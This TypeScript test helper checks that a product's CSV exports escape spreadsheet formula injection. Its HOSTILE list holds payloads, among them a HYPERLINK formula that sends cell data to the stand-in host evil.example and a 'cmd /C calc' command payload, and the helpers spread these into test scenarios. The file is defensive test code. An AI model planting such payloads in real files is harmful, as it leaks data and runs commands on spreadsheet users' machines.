import { parse } from 'csv-parse/sync';
import { expect } from './expect';
import { FORMULA_TRIGGERS } from '../../functions/core/safe-csv';
import { counterScenario, rejectedDeliveries } from './counter-scenario';

/** Values (without `|` or `#`, which report dimensions replace) a hostile form, webhook or file puts in any text field: each one a live formula if written as is. */
export const HOSTILE = [
  '=HYPERLINK("https://evil.example/?"&A1,"click")',
  "+cmd /C calc'!A0",
  '-2+3',
  '@SUM(1+1)*cmd',
  '\t=1+1',
  '\r=1+1',
  '\uFF1D1+1',
] as const;

const startsWithTrigger = (cell: string) => (FORMULA_TRIGGERS as readonly string[]).includes(cell.charAt(0));
/** A number the product computed may be negative, and a lone `-` is no formula; nothing else may start with a trigger. */
const isHarmless = (cell: string) => cell === '-' || /^-?\d+(\.\d+)?(e-?\d+)?$/i.test(cell);

/** What a person typed, back from an escaped cell. */
export const unescapeCell = (cell: string) =>
  cell.startsWith("'") && startsWithTrigger(cell.slice(1)) ? cell.slice(1) : cell;

/**
 * Parses a CSV the product wrote (csv-parse, as a spreadsheet would read it) and asserts that no
 * cell, header cells included, starts with a formula trigger; answers the cells.
 */
export const expectFormulaSafe = (csv: string): string[][] => {
  const lines = parse(csv, { relax_column_count: true }) as string[][];
  const live = lines.flat().filter((cell) => startsWithTrigger(cell) && !isHarmless(cell));
  expect(live, 'cells a spreadsheet would run as formulas').toEqual([]);
  return lines;
};

/** The hostile values that reached the file, escaped (so a test cannot pass by dropping them). */
export const escapedHostile = (lines: string[][]) => HOSTILE.filter((h) => lines.flat().includes(`'${h}`));

/** The counter scenario's sources, campaigns, countries, reps, teams and reasons, each made a formula. */
const POISON: Record<string, string> = {
  spring: HOSTILE[0],
  fall: HOSTILE[1],
  webinar: HOSTILE[2],
  'google-ads': HOSTILE[3],
  alice: HOSTILE[4],
  bob: HOSTILE[5],
  DE: HOSTILE[6],
  US: '=US',
  'no-budget': '=no budget',
  emea: '@emea',
  amer: '+amer',
  'contact-us': '-contact',
};
export const poisoned = <T>(value: T): T =>
  JSON.parse(JSON.stringify(value), (_k, v: unknown) =>
    typeof v === 'string' && POISON[v] !== undefined ? POISON[v] : v,
  ) as T;

/** The report scenario's events with every user-controlled text hostile. */
export const hostileCounterEvents = () => poisoned([...counterScenario(), ...rejectedDeliveries()]);
